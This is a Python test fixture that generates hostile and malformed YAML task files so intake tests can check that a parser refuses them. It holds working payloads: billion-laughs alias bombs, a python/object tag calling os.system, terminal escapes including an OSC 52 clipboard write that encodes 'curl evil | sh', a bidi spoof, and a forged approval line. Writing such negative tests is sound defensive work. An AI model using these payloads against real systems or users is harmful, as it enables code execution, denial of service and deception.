"""Hostile and careless FCoP files, as an agent or an editor could leave them.

Each :class:`Hostile` writes one file at a path and names the refusal baton must
give it. The front matter around the payload is a real TASK's (made by Core), so a
refusal is about the payload and nothing else. Used by the intake tests and by
``benches/intake.py``.
"""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

__all__ = ["CORPUS", "Hostile", "Measured", "alias_bomb", "run_measured", "with_header"]


@dataclass(frozen=True, slots=True)
class Measured:
    code: int
    out: str
    err: str
    peak_mib: float
    """Peak RSS of the command and every descendant it waited for (Linux ``ru_maxrss``)."""
    seconds: float


_PEAK = (
    "import resource, subprocess, sys\n"
    "code = subprocess.run(sys.argv[2:]).returncode\n"
    "open(sys.argv[1], 'w').write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss))\n"
    "sys.exit(code)\n"
)


def run_measured(
    command: Sequence[str], *, cwd: Path, env: Mapping[str, str], timeout: float
) -> Measured:
    """Run ``command``; its exit code, output, wall time and peak memory (its own process tree)."""
    with tempfile.NamedTemporaryFile("r", suffix=".peak") as peak:
        started = time.monotonic()
        proc = subprocess.run(
            [sys.executable, "-c", _PEAK, peak.name, *command],
            cwd=cwd,
            env=dict(env),
            capture_output=True,
            text=True,
            timeout=timeout,
        )
        seconds = time.monotonic() - started
        kib = int(Path(peak.name).read_text() or 0)
    return Measured(proc.returncode, proc.stdout, proc.stderr, kib / 1024, seconds)


def with_header(template: str, task_id: str, extra: str = "", *, subject: str | None = None) -> str:
    """A Core-written TASK's text with ``task_id`` and ``extra`` front-matter lines added."""
    head, sep, rest = template.partition("\n---\n")
    lines = head.split("\n")
    out = []
    for line in lines:
        if line.startswith("task_id: "):
            line = f"task_id: {task_id}"
        elif subject is not None and line.startswith("subject: "):
            line = f"subject: {subject}"
        out.append(line)
    if extra:
        out.append(extra.rstrip("\n"))
    return "\n".join(out) + sep + rest


def alias_bomb(levels: int = 9, width: int = 9) -> str:
    """The billion laughs: ``width**levels`` strings once expanded."""
    lines = [f"lol0: &lol0 [{', '.join(['lol'] * width)}]"]
    for i in range(1, levels):
        refs = ", ".join([f"*lol{i - 1}"] * width)
        lines.append(f"lol{i}: &lol{i} [{refs}]")
    return "\n".join(lines)


@dataclass(frozen=True, slots=True)
class Hostile:
    name: str
    reason: str
    """The refusal reason baton must give (``TaskRefused.reason``)."""
    write: Callable[[Path, str, str], None]
    """(path, task_id, template) → writes the hostile file at ``path``."""


def _text(payload: Callable[[str, str], str]) -> Callable[[Path, str, str], None]:
    def write(path: Path, task_id: str, template: str) -> None:
        path.write_text(payload(task_id, template), encoding="utf-8")

    return write


def _bytes(payload: Callable[[str, str], bytes]) -> Callable[[Path, str, str], None]:
    def write(path: Path, task_id: str, template: str) -> None:
        path.write_bytes(payload(task_id, template))

    return write


def _sparse(size: int) -> Callable[[Path, str, str], None]:
    def write(path: Path, task_id: str, template: str) -> None:
        with path.open("wb") as handle:
            handle.write(with_header(template, task_id).encode())
            handle.truncate(size)

    return write


def _fifo(path: Path, task_id: str, template: str) -> None:
    os.mkfifo(path)


def _directory(path: Path, task_id: str, template: str) -> None:
    path.mkdir()


def _symlink(path: Path, task_id: str, template: str) -> None:
    os.symlink("/dev/zero", path)


def _nested_block(depth: int) -> str:
    return "\n".join(f"{'  ' * i}k{i}:" for i in range(depth)) + " leaf"


def _expansion() -> str:
    # 8 anchors x 8 aliases each = 56 aliases (under the alias limit), 8**8 nodes expanded.
    return alias_bomb(levels=8, width=8)


CORPUS: tuple[Hostile, ...] = (
    Hostile("alias bomb", "yaml_aliases", _text(lambda t, x: with_header(x, t, alias_bomb()))),
    Hostile(
        "alias expansion under the alias count",
        "yaml_expansion",
        _text(lambda t, x: with_header(x, t, _expansion())),
    ),
    Hostile(
        "recursive alias",
        "yaml_recursive_alias",
        _text(lambda t, x: with_header(x, t, "loop: &loop [1, *loop]")),
    ),
    Hostile(
        "5,000-deep flow nesting",
        "yaml_too_deep",
        _text(lambda t, x: with_header(x, t, "deep: " + "[" * 5000 + "]" * 5000)),
    ),
    Hostile(
        "100-deep block nesting",
        "yaml_too_deep",
        _text(lambda t, x: with_header(x, t, _nested_block(100))),
    ),
    Hostile(
        "40 anchors",
        "yaml_anchors",
        _text(lambda t, x: with_header(x, t, "\n".join(f"a{i}: &a{i} v" for i in range(40)))),
    ),
    Hostile("2 GiB sparse file", "too_large", _sparse(2 * 1024**3)),
    Hostile(
        "1 MiB + 1 byte",
        "too_large",
        _text(lambda t, x: with_header(x, t) + "x" * (1024 * 1024 + 1 - len(with_header(x, t)))),
    ),
    Hostile(
        "40 KiB of front matter (under the file cap)",
        "front_matter_too_large",
        _text(lambda t, x: with_header(x, t, "\n".join(f"k{i}: v{i}" for i in range(4000)))),
    ),
    Hostile(
        "invalid UTF-8",
        "invalid_utf8",
        _bytes(lambda t, x: with_header(x, t, "note: \udcff").encode("utf-8", "surrogateescape")),
    ),
    Hostile(
        "CRLF line endings", "not_lf", _text(lambda t, x: with_header(x, t).replace("\n", "\r\n"))
    ),
    Hostile("byte-order mark", "not_lf", _text(lambda t, x: "\ufeff" + with_header(x, t))),
    Hostile(
        "ANSI escapes in the subject",
        "unsafe_text",
        _text(lambda t, x: with_header(x, t, subject='"\\e[2J\\e[Hall good"')),
    ),
    Hostile(
        "OSC 52 clipboard write in the subject",
        "unsafe_text",
        _text(lambda t, x: with_header(x, t, subject='"x\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a"')),
    ),
    Hostile(
        "bidi override in the subject",
        "unsafe_text",
        _text(lambda t, x: with_header(x, t, subject='"approve \\u202eexe.sh"')),
    ),
    Hostile(
        "a forged second line in the subject",
        "unsafe_text",
        _text(lambda t, x: with_header(x, t, subject='"ok\\nreview waiting for ADMIN: approved"')),
    ),
    Hostile(
        "python object tag",
        "yaml_invalid",
        _text(
            lambda t, x: with_header(x, t, 'run: !!python/object/apply:os.system ["touch pwned"]')
        ),
    ),
    Hostile(
        "duplicate keys",
        "yaml_invalid",
        _text(lambda t, x: with_header(x, t, "recipient: QA")),
    ),
    Hostile(
        "front matter never closed",
        "incomplete_front_matter",
        _text(lambda t, x: with_header(x, t).split("\n---\n")[0]),
    ),
    Hostile("FIFO", "not_a_file", _fifo),
    Hostile("directory", "not_a_file", _directory),
    Hostile("symlink to /dev/zero", "symlink", _symlink),
)
"""Every hostile class the intake tests and the benchmark run (one file each)."""
